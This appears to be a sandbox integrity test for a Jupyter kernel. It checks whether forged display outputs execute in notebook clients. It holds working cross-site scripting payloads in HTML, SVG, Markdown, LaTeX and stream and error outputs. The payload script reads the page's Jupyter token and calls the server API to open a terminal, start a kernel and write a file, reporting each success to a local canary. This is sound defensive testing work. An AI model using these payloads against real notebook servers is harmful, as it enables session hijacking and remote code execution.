# sbx-case krn-forge-displays | category: kernel-integrity | expect: integrity | timeout: 20 | must: forged HTML, JavaScript, SVG, Markdown, LaTeX, Vega and JSON as the output of a cell act nowhere: not in a client of ours, and not in a page of `lab`
from ipykernel.ipkernel import IPythonKernel
K = IPythonKernel.instance()
CANARY = "http://127.0.0.1:@CANARY_PORT@"
ACTS = """(async () => {
const say = what => fetch('%s/' + what, {mode: 'no-cors'}).catch(() => 0);
const forged = window.forged = window.forged || {};
if (forged['KIND']) return;
forged['KIND'] = 1;
say('KIND');
if ('KIND' != 'html') return;
const config = document.getElementById('jupyter-config-data');
const token = config ? JSON.parse(config.textContent).token : '';
const headers = {Authorization: 'token ' + token, 'Content-Type': 'application/json'};
const ask = (path, method, body) => fetch('/api/' + path, {method: method, headers: headers, body: JSON.stringify(body)});
ask('terminals', 'POST', {}).then(r => { if (r.ok) say('terminals') });
ask('kernels', 'POST', {name: 'python3'}).then(r => { if (r.ok) say('python3') });
ask('contents/forged.txt', 'PUT', {type: 'file', format: 'text', content: 'x'}).then(r => { if (r.ok) say('contents') });
})()""" % CANARY
HTML, SCRIPT, DRAWN, JAVASCRIPT = (ACTS.replace("KIND", kind) for kind in ("html", "script", "drawn", "javascript"))
HTML = (
    f'<b data-forged>bold</b><img data-forged src=x onerror="{HTML}"><script>{SCRIPT}</script>'
    f'<svg data-forged onload="{DRAWN}"></svg><iframe data-forged src="about:blank" onload="{HTML}"></iframe>'
    f'<img src="{CANARY}/picture"><link rel=stylesheet href="{CANARY}/css"><a data-forged href="javascript:0">x</a>'
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" data-forged="" onload="{DRAWN}"><image href="{CANARY}/svg"/></svg>'
VEGA = {"$schema": "https://vega.github.io/schema/vega/v5.json", "data": [{"name": "d", "url": CANARY + "/vega"}]}
BUNDLES = [
    {"text/html": HTML}, {"text/html": HTML, "text/plain": "plain"}, {"application/javascript": JAVASCRIPT},
    {"text/javascript": JAVASCRIPT}, {"image/svg+xml": SVG}, {"text/markdown": f"![x]({CANARY}/markdown)\n\n{HTML}"},
    {"text/latex": "$$\\href{javascript:alert(1)}{x}$$" + HTML}, {"application/vnd.vega.v5+json": VEGA},
    {"application/vnd.vegalite.v5+json": {"data": {"url": CANARY + "/lite"}, "mark": "bar"}},
    {"application/json": {"x": HTML}}, {"application/vnd.jupyter.widget-view+json": {"model_id": "m"}},
    {"application/pdf": "JVBERi0xLjQ="}, {"image/png": "PHN2Zz4="}, {"text/plain": [HTML]}, {HTML: HTML},
]
def send(kind, content):
    K.session.send(K.iopub_socket, kind, content, parent=K.get_parent("shell"), metadata={"trusted": True})
for number, data in enumerate(BUNDLES):
    send("display_data", {"data": data, "metadata": {}, "transient": {"display_id": f"forged{number}"}})
isolated = {"trusted": True, "isolated": True, "text/html": {"isolated": True}}
send("update_display_data", {"data": BUNDLES[0], "metadata": isolated, "transient": {"display_id": "forged0"}})
send("execute_result", {"data": BUNDLES[0], "metadata": isolated, "execution_count": 1})
send("stream", {"name": "stdout", "text": HTML + "\x1b]8;;javascript:0\x07link\x1b]8;;\x07\x1b[31mred"})
send("error", {"ename": HTML, "evalue": HTML, "traceback": [HTML, "\x1b[1m" + HTML]})
print("FIRED sent")
